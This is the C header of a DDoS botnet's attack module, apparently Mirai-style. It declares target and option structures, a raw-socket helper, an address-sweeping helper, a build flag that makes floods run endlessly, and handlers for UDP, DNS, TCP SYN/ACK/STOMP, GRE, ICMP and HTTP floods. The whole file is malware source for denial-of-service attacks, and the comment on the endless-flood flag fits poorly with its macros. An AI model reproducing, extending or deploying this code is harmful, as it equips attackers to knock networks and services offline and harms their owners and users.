/* Attacks: registry, parameters, handlers. */
#ifndef ATTACK_H
#define ATTACK_H

#include "platform.h"

struct attack_target {
    struct sockaddr_in sock_addr;
    ipv4_t addr;
    uint8_t netmask;
};

struct attack_option {
    char *val;
    uint8_t key;
};

typedef void (*attack_handler)(uint8_t, struct attack_target *, uint8_t, struct attack_option *);

struct attack_method {
    attack_handler handler;
    uint8_t vector;
};

#define ATTACK_ARGUMENTS                                                             \
    uint8_t target_count, struct attack_target *targets, uint8_t option_count,       \
        struct attack_option *options
#define INT_OPTION(ATTACK, NAME) \
    attack_get_opt_int(option_count, options, OPTION_##NAME, DEFAULT_##ATTACK##_##NAME)
#define ADDRESS_OPTION(NAME, DEFAULT) \
    attack_get_opt_ip(option_count, options, OPTION_##NAME, DEFAULT)
#define TEXT_OPTION(NAME, DEFAULT) attack_get_opt_str(option_count, options, OPTION_##NAME, DEFAULT)

/* Whether a flood goes on. With ATTACKS_SPIN it does for ever, and nothing leaves after the third packet. */
#if ATTACKS_SPIN
#define FLOODING 1
#define TOO_FEW_LEFT(COUNT) 0
#define REPEATING(CONDITION) ((CONDITION) || ((i = 0), 1)) /* round by round */
#else
#define FLOODING (packets_left > 0)
#define TOO_FEW_LEFT(COUNT) (packets_left < (COUNT))
#define REPEATING(CONDITION) (CONDITION)
#endif

#define MAXIMUM_PAYLOAD 1460
#define PACKET_ROOM 1600

int attack_init(void);
void attack_parse(char *command, int length);
char *attack_get_opt_str(uint8_t count, struct attack_option *options, uint8_t key, char *fallback);
int attack_get_opt_int(uint8_t count, struct attack_option *options, uint8_t key, int fallback);
uint32_t attack_get_opt_ip(uint8_t count, struct attack_option *options, uint8_t key,
                           uint32_t fallback);
/* A raw socket with IP_HDRINCL, or -1. */
int attack_raw_socket(int protocol);
/* The address of one round: the target, or one drawn from its network; masked. Network order. */
ipv4_t attack_draw_address(const struct attack_target *target);

void attack_udp_generic(ATTACK_ARGUMENTS);
void attack_udp_vse(ATTACK_ARGUMENTS);
void attack_udp_dns(ATTACK_ARGUMENTS);
void attack_udp_plain(ATTACK_ARGUMENTS);
void attack_tcp_syn(ATTACK_ARGUMENTS);
void attack_tcp_ack(ATTACK_ARGUMENTS);
void attack_tcp_stomp(ATTACK_ARGUMENTS);
void attack_gre_ip(ATTACK_ARGUMENTS);
void attack_gre_eth(ATTACK_ARGUMENTS);
void attack_app_http(ATTACK_ARGUMENTS);
void attack_udp_connected(ATTACK_ARGUMENTS);
void attack_tcp_connect(ATTACK_ARGUMENTS);
void attack_icmp_echo(ATTACK_ARGUMENTS);
void attack_ip_other(ATTACK_ARGUMENTS);
void attack_nothing(ATTACK_ARGUMENTS);

#endif
